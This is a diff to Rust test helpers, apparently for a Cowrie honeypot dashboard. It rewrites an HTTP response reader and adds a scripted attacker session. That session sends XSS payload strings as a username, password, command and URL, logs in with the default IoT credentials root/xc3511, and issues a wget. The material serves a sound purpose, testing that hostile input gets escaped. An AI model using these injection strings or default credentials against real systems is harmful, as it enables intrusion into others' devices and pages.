@@ -45,10 +45,22 @@ pub fn request(
     head.push_str("\r\n");
     head.push_str(body);
     s.write_all(head.as_bytes()).unwrap();
+    // No request here takes long; a hang fails the test instead of the run.
+    s.set_read_timeout(Some(std::time::Duration::from_secs(60)))
+        .unwrap();
+    // Until the head's end, then Content-Length bytes (ChromeDriver keeps the
+    // connection open whatever `Connection` says), or to the close without one.
     let mut raw = Vec::new();
-    s.read_to_end(&mut raw).unwrap();
-    let text = String::from_utf8(raw).unwrap();
-    let (head, body) = text.split_once("\r\n\r\n").unwrap();
+    let mut buf = [0u8; 8192];
+    let head_end = loop {
+        if let Some(i) = super::find(&raw, b"\r\n\r\n") {
+            break i;
+        }
+        let n = s.read(&mut buf).unwrap();
+        assert!(n > 0, "closed before the head's end: {raw:?}");
+        raw.extend_from_slice(&buf[..n]);
+    };
+    let head = String::from_utf8(raw[..head_end].to_vec()).unwrap();
     let mut lines = head.lines();
     let status = lines
         .next()
@@ -58,16 +70,33 @@ pub fn request(
         .unwrap()
         .parse()
         .unwrap();
-    let headers = lines
+    let headers: Vec<(String, String)> = lines
         .map(|l| {
-            let (n, v) = l.split_once(": ").unwrap();
-            (n.to_ascii_lowercase(), v.to_string())
+            let (n, v) = l.split_once(':').unwrap();
+            (n.to_ascii_lowercase(), v.trim().to_string())
         })
         .collect();
+    let mut body = raw[head_end + 4..].to_vec();
+    match headers
+        .iter()
+        .find(|(n, _)| n == "content-length")
+        .map(|(_, v)| v.parse::<usize>().unwrap())
+    {
+        Some(len) => {
+            while body.len() < len {
+                let n = s.read(&mut buf).unwrap();
+                assert!(n > 0, "closed inside the body");
+                body.extend_from_slice(&buf[..n]);
+            }
+        }
+        None => {
+            s.read_to_end(&mut body).unwrap();
+        }
+    }
     Answer {
         status,
         headers,
-        body: body.to_string(),
+        body: String::from_utf8(body).unwrap(),
     }
 }
 
@@ -99,4 +128,46 @@ pub fn get_when(addr: SocketAddr, path: &str, done: impl Fn(&Answer) -> bool) ->
         );
         std::thread::sleep(std::time::Duration::from_millis(10));
     }
+}
+
+pub const STEP: std::time::Duration = std::time::Duration::from_secs(10);
+
+/// What a bot chooses that a careless page would run.
+pub const USER: &str = "<script>alert(1)</script>";
+pub const PASSWORD: &str = "\"><img src=x onerror=alert(2)>";
+pub const COMMAND: &str = "echo '</title><svg onload=alert(3)>'";
+pub const URL: &str = "http://127.0.0.1:9/<script>alert(4)</script>.sh";
+
+/// A session that tries the hostile credentials, logs in, runs the hostile command
+/// and downloads from the hostile URL; its id.
+pub fn hostile_session(sensor: &super::Sensor, from: usize) -> String {
+    let mut c = sensor.connect_from(super::source(from));
+    c.read_until(b"login: ", STEP);
+    c.send(format!("{USER}\r\n").as_bytes());
+    c.read_until(b"Password: ", STEP);
+    c.send(format!("{PASSWORD}\r\n").as_bytes());
+    c.read_until(b"login: ", STEP);
+    c.send(b"root\r\n");
+    c.read_until(b"Password: ", STEP);
+    c.send(b"xc3511\r\n");
+    c.read_until(b"# ", STEP);
+    c.send(format!("{COMMAND}\r\n").as_bytes());
+    c.read_until(b"# ", STEP);
+    c.send(format!("wget '{URL}'\r\n").as_bytes());
+    c.read_until(b"# ", STEP);
+    c.send(b"exit\r\n");
+    c.read_to_close(STEP);
+    let src = super::source(from).to_string();
+    let events = sensor.wait_for_events("the hostile session's close", |events| {
+        events.iter().any(|e| {
+            e["eventid"] == "cowrie.session.closed" && e["src_ip"].as_str() == Some(src.as_str())
+        })
+    });
+    events
+        .iter()
+        .find(|e| e["eventid"] == "cowrie.session.connect" && e["src_ip"] == src.as_str())
+        .unwrap()["session"]
+        .as_str()
+        .unwrap()
+        .to_string()
 }
